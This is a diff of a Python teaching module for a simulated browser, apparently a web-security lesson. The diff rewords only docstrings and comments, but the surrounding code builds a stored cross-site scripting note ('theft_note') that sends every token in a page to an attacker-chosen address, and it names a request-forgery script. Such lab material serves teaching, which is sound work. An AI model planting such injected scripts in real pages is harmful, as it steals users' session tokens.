@@ -1,18 +1,18 @@
-"""Lesson 10: the scripts in the pages. Each stands here twice: in JavaScript, for a browser, and in Python beside it.
+"""Lesson 10: the scripts in the pages, each written twice: in JavaScript for a browser, and in Python.
 
-The Python twins are for `browser_model`, which can't run JavaScript. It knows a script by its text, so it knows these
-and no others.
+The Python twins are for `browser_model`, which can't run JavaScript. It recognises a script by its text, so it can run
+only these.
 """
 
 from collections.abc import Callable
 from typing import Protocol
 
 Fetch = Callable[[str, str, dict[str, str], dict[str, str] | str], str]
-"""Path, method, headers and body in, the answer's text out."""
+"""Takes path, method, headers and body; returns the answer's text."""
 
 
 class Window(Protocol):
-    """A page, as far as these scripts touch it. `browser_model.Window` is one."""
+    """The parts of a page that these scripts use. `browser_model.Window` has them."""
 
     texts: dict[str, str]
     values: dict[str, str]
@@ -27,7 +27,7 @@ class Window(Protocol):
 
     @property
     def cookie(self) -> str:
-        """What document.cookie gives."""
+        """The value of document.cookie."""
 
     @property
     def local(self) -> dict[str, str]:
@@ -47,7 +47,7 @@ class Window(Protocol):
 
 
 TWINS: dict[str, Callable[[Window], None]] = {}
-"""For each script's text what the model does in its place."""
+"""By each script's text, the function that the model calls instead."""
 
 
 def _script(text: str, twin: Callable[[Window], None]) -> str:
@@ -100,7 +100,7 @@ _KEEPERS = {
 
 
 def page_script(keep: str) -> str:
-    """The page's script for this way to keep a token; whatever begins with "cookie" is a cookie."""
+    """The page's script for this way to keep a token; all that begin with "cookie" are one."""
     return _PAGES["cookie" if keep.startswith("cookie") else keep]
 
 
@@ -143,7 +143,7 @@ SUBMIT = _script("document.forms[0].submit()", lambda window: window.submit())
 FOLLOW = _script("document.links[0].click()", lambda window: window.follow())
 
 
-# -- notes on the pinboard: what an attacker gets into somebody else's page ------------------------------------------
+# -- notes on the pinboard, by which an attacker injects scripts into the page ----------------------------------------
 
 _THEFT = """
 const loot = document.currentScript.dataset.to;
@@ -190,7 +190,7 @@ RIDE = _script(_RIDE, _ride_twin)
 
 
 def theft_note(loot: str) -> str:
-    """A note that sends whatever it finds in the page to this address, at each request that the page makes."""
+    """A note that, at each request of the page, sends all tokens that it finds in the page to this address."""
     return f'Lovely drill! <script data-to="{loot}">{THEFT}</script>'
 
 
